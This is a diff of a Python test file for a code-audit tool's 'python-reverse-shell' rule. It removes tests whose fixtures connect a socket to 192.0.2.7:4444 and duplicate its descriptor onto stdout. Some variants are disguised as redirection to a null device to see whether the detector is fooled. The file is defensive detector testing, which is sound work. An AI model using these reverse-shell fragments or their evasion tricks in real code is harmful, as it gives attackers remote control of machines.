@@ -69,33 +69,3 @@ def test_a_shell_whose_streams_are_one_peer_is_joined_to_it() -> None:
     )
     assert "python-reverse-shell" in {found.rule for found in audited({"a.py": text.format("peer")}).findings}
     assert "python-reverse-shell" not in {found.rule for found in audited({"a.py": text.format("None")}).findings}
-
-
-SILENT = (
-    "import os, socket\n\ndoor = socket.socket()\ndoor.connect(('192.0.2.7', 4444))\n"
-    "null = os.open(os.devnull, os.O_RDWR)\n{}os.dup2({}, 1)\n"
-)
-
-
-@pytest.mark.parametrize("given", ["null", "os.open('/dev/null', os.O_RDWR)", "open(os.devnull).fileno()"])
-def test_a_daemon_may_give_its_streams_to_nobody(given: str) -> None:
-    report = audited({"a.py": SILENT.format("", given)})
-    assert "python-reverse-shell" not in {found.rule for found in report.findings}
-
-
-@pytest.mark.parametrize(
-    ("before", "given"),
-    [
-        ("", "door.fileno()"),
-        ("null = door.fileno()\n", "null"),
-        ("if door:\n    null, _ = door.fileno(), 1\n", "null"),
-        ("os.dup2(door.fileno(), null)\n", "null"),
-        ("def open(name):\n    return door\n", "open(os.devnull).fileno()"),
-        ("os.open = lambda *_: door.fileno()\n", "os.open(os.devnull, 2)"),
-        ("os.close(null)\ndoor = socket.create_connection(('192.0.2.7', 4444))\n", "null"),
-        ("os.devnull = '/dev/pts/9'\nnull = pick()\n", "null"),
-    ],
-)
-def test_a_daemon_that_names_the_connection_null_is_a_reverse_shell(before: str, given: str) -> None:
-    report = audited({"a.py": SILENT.format(before, given)})
-    assert "python-reverse-shell" in {found.rule for found in report.findings}
